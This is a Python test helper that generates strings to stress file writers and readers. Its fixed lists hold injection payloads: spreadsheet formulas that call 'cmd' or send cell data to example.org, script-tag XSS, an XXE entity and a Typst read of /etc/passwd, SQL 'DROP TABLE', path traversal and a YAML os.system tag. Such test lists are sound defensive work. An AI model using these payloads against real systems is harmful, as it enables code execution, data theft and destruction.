"""Strings that break what writes and reads files: a list of known ones, and any number made of their pieces.

Hypothesis draws them in the ordinary run, a seeded chance in the long one; both use the same pieces. All made up.
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from dataclasses import fields, is_dataclass, replace
from itertools import chain, cycle
from typing import Any, Literal, TypeVar, get_origin, get_type_hints

from hypothesis import strategies as st

FORMULAS = (
    "=1+1", "=HYPERLINK(\"http://example.org/\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1", "\u3000=1+1", "\u2028=1+1",
    "\0=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "'=1+1", "''=1+1", "\"=1+1\"", ";=1+1;", ",=1+1,",
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "=cmd|'/C calc'!A0", "=WEBSERVICE(\"http://example.org\")", "{=1+1}", "-", "=",
    "+44 7700 900000", "- a list", "|=1",
)  # fmt: skip
TYPST = (
    '#read("/etc/passwd")', '#panic("run")', '#import "x.typ"', '#include "../x"', "#set page(width: 1pt)",
    "#let x = 1;", '#sys.inputs', "$ sum_(k=1)^n k $", "@label <label>", "*bold* _it_ `raw` ```raw",
    "\\u{0} \\ // /* */", "= Heading", '"] #panic() [', "#[", "]", "}#panic(){", '#eval("panic()")',
    '#plugin("x.wasm")', '#image("x.svg")', "#{", "--- -- ...",
)  # fmt: skip
MARKUP = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</style><script>alert(1)</script>",
    "<svg/onload=alert(1)>", "javascript:alert(1)", "<a href=\"javascript:alert(1)\">x</a>", "</textarea></title>-->",
    "<![CDATA[", "]]>", "&lt;&#0;&bogus;", "&amp;lt;", "<?xml version=\"1.0\"?>",
    "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>", "<w:p>", "</w:t></w:r>", "\" onmouseover=\"alert(1)",
    "' autofocus onfocus='alert(1)", "{{ 7*7 }}", "{% raw %}", "{# x #}", "${7*7}", "<iframe srcdoc=x>",
    "<table><tr><td>", "<plaintext>", "<xmp>", "_x0000_", "_x005F_x0041_", "%s %n %(x)s {0} {x!r}",
    "'); DROP TABLE responses; --",
)  # fmt: skip
SCRIPTS = (
    "أريد المزيد من الأضواء", "مجھے سڑک پر روشنی چاہئے", "আমি আলো চাই", "ਮੈਨੂੰ ਡਰ ਲੱਗਦਾ ਹੈ", "मुझे डर", "汉字かな",
    "ⵣ 𐎀 𓀀", "Ħéłłö", "I\u0307ıİ ﬁ ß", "e\u0301" * 3, "\u1112\u1161\u11ab", "ℌ𝓮𝐥𝕝𝟬", "\u0e33\u0e4d\u0e32", "నేను",
)  # fmt: skip
SIGNS = (
    "\0", "\x01\x08", "\x0b\x0c", "\x1b[31m", "\x7f", "\x85", "\u2028", "\u2029", "\r\n", "\r", "\n\n\n", "\t\t",
    "\ud800", "\udfff", "\ud83d\ud83d", "\udc00\ud800", "\ufffe", "\uffff", "\ufdd0", "\U0001fffe", "\U0010ffff",
    "\ufeff", "\u200b", "\u2060", "\u00ad", "\u202e", "\u2066x", "\u2069", "\u200e\u200f", "\u200d", "\u200c",
    "\ufe0f", "\ufe0e", "\u20e3", "\u0301" * 40, "\u0488\u0489", "\U000e0041\U000e007f", "\U000e0fff", "\ue000",
    "\U000f0000", "\u0378", "\ufffc", "\ufff9\ufffa\ufffb", "\u3164", "\u2800", "\u180e",
)  # fmt: skip
PICTURES = (
    "😀", "👩‍👩‍👧‍👦", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "❤️", "👍🏽", "1️⃣", "🏳️‍🌈", "🫨", "\U0001fae9", "🇬🇧", "🇬",
)  # fmt: skip
PLAIN = (
    "more lights", "a", "", " ", "the bus stop", "0", "-1", "1e999", "NaN", "null", "None", "true", "no",
    "2026-11-26", "~", "007", "C:\\x", "../../etc/passwd", "CON", "a: b", "- x", "? y", "&a *a",
    "!!python/object:os.system", "%TAG", "# x", "'", '"', "\\", "\\\"", "\"\"", "a,b;c|d\te",
    "https://example.org/a?b=c&d", "word " * 12, "w" * 90, "x" * 300, "é" * 64,
)  # fmt: skip
KNOWN = (*FORMULAS, *TYPST, *MARKUP, *SCRIPTS, *SIGNS, *PICTURES, *PLAIN)
LONG = (
    "😀" * 5_000, "a" * 40_000, "\u0301" * 5_000, "w " * 20_000, "=1+1\n" * 3_000, "#panic()" * 800, "]]>" * 2_000,
    "<b>" * 3_000,
)  # fmt: skip

PLANES = (
    (0x20, 0x7F), (0, 0x20), (0x80, 0x2000), (0x2000, 0x2100), (0x2100, 0xD800), (0xD800, 0x10000),
    (0x10000, 0x110000),
)  # fmt: skip
Thing = TypeVar("Thing")


def nasty_texts() -> st.SearchStrategy[str]:
    """Known ones, any characters (half ones too), and several of either in a row."""
    pieces = st.sampled_from(KNOWN) | st.text(st.characters(codec=None), max_size=12)
    return pieces | st.lists(pieces, min_size=2, max_size=4).map("".join)


def many_nasty(count: int, seed: int = 0) -> list[str]:
    """So many, the same for a seed: every known one first, then pieces of them in a row, changed here and there."""
    chance = random.Random(seed)
    made = list(KNOWN[:count])
    while len(made) < count:
        said = "".join(_piece(chance) for _ in range(chance.choice((1, 1, 2, 3))))
        if said and chance.random() < 0.3:
            at = chance.randrange(len(said))
            said = said[:at] + _sign(chance) + said[at + chance.randrange(3) :]
        made.append(said)
    return made


def _piece(chance: random.Random) -> str:
    if chance.random() < 0.6:
        return chance.choice(KNOWN)
    return "".join(_sign(chance) for _ in range(chance.randrange(1, 12)))


def _sign(chance: random.Random) -> str:
    low, high = chance.choice(PLANES)
    return chr(chance.randrange(low, high))


def filled(thing: Thing, said: Iterator[str], keep: frozenset[str]) -> Thing:
    """The same thing with the next string in every place where words stand, but in the fields named in `keep`."""
    return _filled(thing, said, keep)  # type: ignore[no-any-return]


def _filled(thing: Any, said: Iterator[str], keep: frozenset[str]) -> Any:
    if isinstance(thing, str):
        return next(said)
    if isinstance(thing, tuple | list):
        return type(thing)(_filled(one, said, keep) for one in thing)
    if is_dataclass(thing) and not isinstance(thing, type):
        kinds = get_type_hints(type(thing))
        free = [
            one.name for one in fields(thing) if one.name not in keep and get_origin(kinds[one.name]) is not Literal
        ]
        return replace(thing, **{name: _filled(getattr(thing, name), said, keep) for name in free})
    return thing


def without_end(texts: list[str]) -> Iterator[str]:
    """The strings, again and again: how often one stands somewhere is for the thing that is filled to say."""
    return chain.from_iterable(cycle([texts]))
